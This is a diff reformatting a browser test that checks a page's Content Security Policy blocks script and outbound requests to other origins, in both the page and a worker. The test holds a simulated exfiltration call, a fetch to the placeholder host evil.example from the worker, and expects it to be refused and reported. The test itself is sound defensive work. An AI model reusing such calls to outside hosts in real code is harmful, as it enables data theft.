@@ -3,7 +3,8 @@ import { expect, test } from './support/test.ts';
 
 test.describe('the page’s policy', () => {
   test.use({
-    expectedNoise: /Content Security Policy|Trusted(HTML|Script|ScriptURL)' assignment|violates|Refused/,
+    expectedNoise:
+      /Content Security Policy|Trusted(HTML|Script|ScriptURL)' assignment|violates|Refused/,
   });
 
   test('runs no text and lets nothing out to other origins, in page and worker, and its operator is told [threat-provider-assets]', async ({
@@ -11,7 +12,9 @@ test.describe('the page’s policy', () => {
     server,
   }) => {
     await page.goto(`${server.embedOrigin}/embed/offstage003?autoplay=1&mute=1`);
-    await expect.poll(() => page.evaluate(() => window.offstage.diagnose()?.services.place)).toBe('worker');
+    await expect
+      .poll(() => page.evaluate(() => window.offstage.diagnose()?.services.place))
+      .toBe('worker');
     await expect(page.locator('.player')).toHaveAttribute('data-state', 'playing');
     // What whoever got a foot into the page would try. Later, because the browser lets a debugger's own turn do more.
     const got = await page.evaluate(async () => {
@@ -45,10 +48,13 @@ test.describe('the page’s policy', () => {
       evil: false,
     });
     const services = page.workers().find((worker) => worker.url().includes('services-worker'));
-    const inWorker = services?.evaluate(() => fetch('https://evil.example/worker').catch(({ name }) => name));
+    const inWorker = services?.evaluate(() =>
+      fetch('https://evil.example/worker').catch(({ name }) => name),
+    );
     expect(await inWorker).toBe('TypeError');
 
-    const told = async () => (await reportedErrors(server)).map(({ message }) => message).toSorted();
+    const told = async () =>
+      (await reportedErrors(server)).map(({ message }) => message).toSorted();
     await expect.poll(async () => (await told()).length).toBe(5);
     expect(await told()).toEqual([
       'connect-src refuses https://evil.example/',
